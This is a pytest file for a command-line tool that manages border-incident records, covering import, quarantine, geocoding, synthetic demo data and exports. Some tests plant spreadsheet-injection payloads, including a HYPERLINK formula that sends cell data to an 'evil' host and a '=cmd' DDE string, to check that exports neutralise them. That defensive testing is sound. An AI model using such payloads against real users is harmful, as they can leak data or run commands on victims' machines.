"""CLI end to end (real importers, gazetteer and border engine), exports, synthetic demo."""
from __future__ import annotations

import json
import xml.etree.ElementTree as ET

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest

from geo.geonames import _geonames_frame
from incidents import demo
from incidents.access import LOCAL_ADMIN as ADMIN  # noqa: F401
from incidents.access import Principal
from incidents.cli import EXIT_DATA, EXIT_FILE, main
from incidents.format_writers import ExportError, neutralise_formulas
from incidents.importers.acled_layout import synthetic_acled_csv
from incidents.schema import SYNTHETIC_SOURCE
from incidents.wiring import open_store
from sharing.export import export


@pytest.fixture
def db(db_url):
    """A new store on each backend (SQLite, PostgreSQL)."""
    return db_url


@pytest.fixture
def acled_csv(tmp_path):
    path = tmp_path / "acled.csv"
    path.write_bytes(synthetic_acled_csv(40, seed=3))
    return path


def test_cli_import_twice_then_list_history_quarantine(db, acled_csv, tmp_path, capsys):
    report_path = tmp_path / "r.json"
    assert main(["import", str(acled_csv), "--db", db, "--report", str(report_path)]) == 0
    out = capsys.readouterr().out
    assert "rows read:   40" in out and "inserted:    40" in out
    rep = json.loads(report_path.read_text())
    assert rep["rows_read"] == rep["inserted"] + rep["updated"] + rep["duplicates"] \
        + rep["rejected_count"] == 40
    assert main(["import", str(acled_csv), "--db", db]) == 0
    assert "duplicates:  40" in capsys.readouterr().out
    assert main(["list", "--db", db, "--limit", "3"]) == 0
    out = capsys.readouterr().out
    assert "KGTJ-000001" in out and "3 of 40 incident(s) shown" in out
    assert main(["history", "KGTJ-000001", "--db", db]) == 0
    assert "import_insert" in capsys.readouterr().out
    assert main(["history", "KGTJ-999999", "--db", db]) == EXIT_DATA
    assert "no incident" in capsys.readouterr().err
    assert main(["quarantine", "--db", db]) == 0
    assert "quarantine is empty" in capsys.readouterr().out


def test_cli_import_rejects_rows_and_lists_them(db, tmp_path, capsys):
    path = tmp_path / "table.csv"
    path.write_text("date,village,lat,lon,type\n2024-05-01,Ak-Say,39.87,70.52,youth_clash\n"
                    "not a date,Vorukh,39.85,70.58,youth_clash\n"
                    "2024-05-03,Vorukh,400,70.58,youth_clash\n", encoding="utf-8")
    assert main(["import", str(path), "--db", db]) == 0
    out = capsys.readouterr().out
    assert "rows read:   3" in out and "rejected:    2" in out
    assert "row 3:" in out and "row 4:" in out
    assert main(["quarantine", "--db", db]) == 0
    assert "2 quarantined row(s)" in capsys.readouterr().out
    assert open_store(db).count(principal=ADMIN) == 1


def test_quarantine_file_guards_the_uploaded_header(db, tmp_path, capsys):
    """The rejected rows come back with the file's own column names: a name a spreadsheet
    would run as a formula is guarded like a cell."""
    hostile = '=HYPERLINK("http://evil/?"&A2;"x")'
    path = tmp_path / "table.csv"
    path.write_text(f'date,village,lat,lon,type,"{hostile.replace(chr(34), chr(34) * 2)}"\n'
                    "2024-05-01,Ak-Say,39.87,70.52,youth_clash,1\n"
                    "not a date,Vorukh,39.85,70.58,youth_clash,1\n", encoding="utf-8")
    assert main(["import", str(path), "--db", db]) == 0
    out = tmp_path / "rejected.csv"
    assert main(["quarantine", "--out", str(out), "--db", db]) == 0
    header = out.read_text(encoding="utf-8").splitlines()[0]
    assert "'" + hostile.replace('"', '""') in header
    assert ',"=' not in header and not header.startswith("=")
    capsys.readouterr()


def test_cli_file_errors(db, tmp_path, capsys):
    assert main(["import", str(tmp_path / "missing.csv"), "--db", db]) == EXIT_FILE
    empty = tmp_path / "empty.csv"
    empty.write_text("", encoding="utf-8")
    assert main(["import", str(empty), "--db", db]) == EXIT_FILE
    assert "error:" in capsys.readouterr().err
    assert open_store(db).is_empty()


def test_cli_geocode(db, capsys):
    assert main(["geocode", "Ворух", "--db", db]) == 0
    out = capsys.readouterr().out
    assert "matched" in out and "Vorukh" in out


def test_cli_geocode_json_contract(db, capsys, monkeypatch):
    import json
    from pathlib import Path

    from incidents.wiring import clear_cache
    fixture = Path(__file__).parents[1] / "geo" / "fixtures" / "border_settlements_test.csv"
    monkeypatch.setenv("KGTJ_GAZETTEER_FILES", str(fixture))
    clear_cache()
    try:
        assert main(["geocode", "Кек-Таш", "--json", "--db", db]) == 0
        out = json.loads(capsys.readouterr().out)
        assert out == {"query": "Кек-Таш", "status": "matched", "candidates": [
            {"name": "Kek-Tash", "name_ru": "Кёк-Таш", "lat": 39.94972, "lon": 70.53583,
             "country": "KGZ", "district": "Batken", "source": "curated"}]}
        assert main(["geocode", "Twinkishlak", "--json", "--db", db]) == 0
        assert json.loads(capsys.readouterr().out)["status"] == "ambiguous"
        assert main(["geocode", "Twinkishlak", "--json", "--admin", "Leilek", "--db", db]) == 0
        out = json.loads(capsys.readouterr().out)
        assert (out["status"], out["candidates"][0]["district"]) == ("matched", "Leilek")
        assert main(["geocode", "Farkishlak", "--json", "--country", "KGZ", "--db", db]) == 0
        assert json.loads(capsys.readouterr().out)["status"] == "far"
        assert main(["geocode", "Qwertzobod", "--json", "--db", db]) == 0
        assert json.loads(capsys.readouterr().out) == {
            "query": "Qwertzobod", "status": "not_found", "candidates": []}
    finally:
        clear_cache()


def test_cli_demo_and_exports_open_in_gis(db, tmp_path, capsys):
    assert main(["demo", "--db", db]) == 0
    assert "SYNTHETIC DEMO" in capsys.readouterr().out
    store = open_store(db)
    n = store.count(principal=ADMIN)
    assert 400 <= n <= 600 and store.has_only_demo()
    assert main(["demo", "--db", db]) == 0 and store.count(principal=ADMIN) == n  # idempotent
    assert main(["demo", "--replace", "--db", db]) == 0 and store.count(principal=ADMIN) == n
    eid = store.load(principal=ADMIN)["event_id"].iloc[0]
    store.update(eid, {"notes": "=cmd|' /C calc'!A0"}, principal=Principal("t", "admin"))
    for fmt in ("geojson", "gpkg", "kml", "csv", "xlsx"):
        out = tmp_path / f"x.{fmt}"
        assert main(["export", "--format", fmt, "--out", str(out), "--db", db,
                     "--mode", "internal"]) == 0
    for fmt in ("geojson", "gpkg"):
        gdf = gpd.read_file(tmp_path / f"x.{fmt}")
        assert gdf.crs.to_epsg() == 4326 and len(gdf) == n
        assert gdf.geometry.x.between(69, 72).all()
    root = ET.parse(tmp_path / "x.kml").getroot()
    ns = {"k": "http://www.opengis.net/kml/2.2"}
    assert len(root.findall(".//k:Placemark", ns)) == n
    assert len(gpd.read_file(tmp_path / "x.kml")) == n
    csv = pd.read_csv(tmp_path / "x.csv")
    assert csv.loc[csv["event_id"] == eid, "notes"].iloc[0] == "'=cmd|' /C calc'!A0"
    ws = openpyxl.load_workbook(tmp_path / "x.xlsx").active
    header = [c.value for c in ws[1]]
    notes = [r[header.index("notes")] for r in ws.iter_rows(min_row=2, values_only=True)]
    assert "'=cmd|' /C calc'!A0" in notes and not any(str(v).startswith("=") for v in notes)
    capsys.readouterr()
    assert main(["export", "--format", "geojson", "--out", str(tmp_path / "p.geojson"),
                 "--db", db]) == 0  # public is the default (issue 15)
    pub = gpd.read_file(tmp_path / "p.geojson")
    assert "record_type" in pub.columns and len(pub) < n  # protected: aggregated
    assert "protection" in json.loads((tmp_path / "p.geojson").read_text(encoding="utf-8"))
    assert "hexagon" in capsys.readouterr().out


def test_neutralise_formulas_only_text_cells():
    df = pd.DataFrame({"a": ["=1+1", "+x", "-y", "@z", "ok", None], "n": [-1, 2, 3, 4, 5, 6]})
    out = neutralise_formulas(df)
    assert out["a"].tolist()[:5] == ["'=1+1", "'+x", "'-y", "'@z", "ok"]
    assert pd.isna(out["a"].iloc[5]) and out["n"].tolist() == df["n"].tolist()


def test_kml_escapes_text(tmp_path):
    df = pd.DataFrame({"event_id": ["KGTJ-000001"], "category": ["protest"],
                       "location": ["<Ak&Say>"], "event_date": [pd.Timestamp("2024-01-02")],
                       "notes": ['a "quoted" <script>x</script>'], "lon": [70.5],
                       "lat": [39.9]})
    export(df, "kml", tmp_path / "e.kml", mode="internal", principal=ADMIN)
    root = ET.parse(tmp_path / "e.kml").getroot()  # well-formed despite the markup
    text = ET.tostring(root, encoding="unicode")
    assert "<script>" not in text and "&lt;script&gt;" in text
    with pytest.raises(ExportError, match="format"):
        export(df, "shp", tmp_path / "e.shp")


def test_demo_is_deterministic_and_synthetic():
    places = _geonames_frame()
    a, b = demo.generate(places), demo.generate(places)
    pd.testing.assert_frame_equal(a, b)
    assert not a.equals(demo.generate(places, seed=1))
    assert 400 <= len(a) <= 600
    assert (a["source_dataset"] == SYNTHETIC_SOURCE).all()
    assert (a["source"] == demo.SOURCE_TEXT).all()
    assert a["notes"].str.startswith("SYNTHETIC DEMO:").all()
    assert set(a["location"]) <= set(places["name"])  # only real gazetteer anchors
    assert a["event_date"].dt.year.between(2019, 2025).all()
    assert (a.loc[a["category"] == "domestic_violence", "sensitivity"] == "restricted").all()
    assert set(a["geo_precision"].dropna()) == {1, 2, 3}
    flare = a[(a["event_date"] >= "2021-04-28") & (a["event_date"] <= "2021-05-01")
              & (a["category"] == "border_guard_incident")]
    assert len(flare) >= 20 and (flare["fatalities"] >= 1).sum() >= 20
    cluster = a[a["location"].isin(["Ak-Say", "Vorukh", "Ak-Tatyr"])]
    per_year = cluster.groupby(cluster["event_date"].dt.year).size()
    assert per_year[2025] > per_year[2022] > per_year[2019]
    water = a[a["category"] == "water_dispute"]
    assert water["event_date"].dt.month.between(4, 8).mean() > 0.7


def test_ensure_demo_only_on_empty_store(db):
    store = open_store(db)
    assert store.ensure_demo() is not None and store.has_only_demo()
    assert store.ensure_demo() is None
    assert store.remove_demo(ADMIN) > 0 and store.is_empty()
    # emptied, not new: no later first start loads the demo again
    assert not store.is_new() and store.ensure_demo() is None and store.is_empty()


def test_cli_removes_the_demo_and_the_illustrative_registry(db, capsys):
    from analysis.cli import main as analysis_main
    from analysis.demo_registry import seed_demo_registry
    from analysis.registry import RegistryStore
    from incidents.wiring import load_resources

    assert main(["demo", "--db", db]) == 0
    seed_demo_registry(db, load_resources(db).gazetteer)
    assert len(RegistryStore(db).load()) > 0
    assert main(["demo", "--remove", "--db", db]) == 0
    assert open_store(db).is_empty() and "removed" in capsys.readouterr().out
    assert analysis_main(["registry", "--db", db, "--remove-illustrative"]) == 0
    assert len(RegistryStore(db).load()) == 0


def test_cli_import_prints_the_report_in_russian(tmp_path, capsys):
    """``import --lang ru``: the printed report is the Russian one (English by default)."""
    from tests.app.test_why_ru import latin_words
    db = f"sqlite:///{tmp_path / 's.sqlite'}"
    path = tmp_path / "table.csv"
    path.write_text("date,village,lat,lon,type\n2024-05-01,Ak-Say,39.87,70.52,youth_clash\n"
                    "not a date,Vorukh,39.85,70.58,youth_clash\n", encoding="utf-8")
    assert main(["import", str(path), "--db", db, "--lang", "ru"]) == 0
    out = capsys.readouterr().out
    lines = out.splitlines()
    assert lines[0].startswith("Импорт table.csv [table], пакет ")
    assert "  прочитано строк: 2" in lines and "  отклонено:       1 (сохранено в карантине)" \
        in lines
    assert any(x.startswith("    строка 3: Дата: «not a date» – дата не распознана")
               for x in lines)
    batch = lines[0].rsplit(" ", 1)[1]
    assert latin_words(out, ["table.csv", "table", batch, "not a date", "youth_clash",
                             "utf-8"]) == [], out  # the file's data
    assert main(["import", str(path), "--db", db]) == 0  # English by default
    assert "  rows read:   2" in capsys.readouterr().out.splitlines()


def test_cli_import_tells_a_refused_file_in_the_chosen_language(tmp_path, capsys):
    """A file that is no incident table exits 3 with one line on stderr: in Russian with
    ``--lang ru``, in English by default."""
    from cli_common import EXIT_FILE
    db = f"sqlite:///{tmp_path / 's.sqlite'}"
    path = tmp_path / "points.csv"
    path.write_text('<?xml version="1.0"?><kml></kml>\n', encoding="utf-8")
    assert main(["import", str(path), "--db", db, "--lang", "ru"]) == EXIT_FILE
    err = capsys.readouterr().err
    assert err.startswith("error: points.csv: это файл KML, а не таблица инцидентов") and \
        len(err.splitlines()) == 1, err
    assert main(["import", str(path), "--db", db]) == EXIT_FILE
    assert "points.csv: a KML file, not an incident table" in capsys.readouterr().err
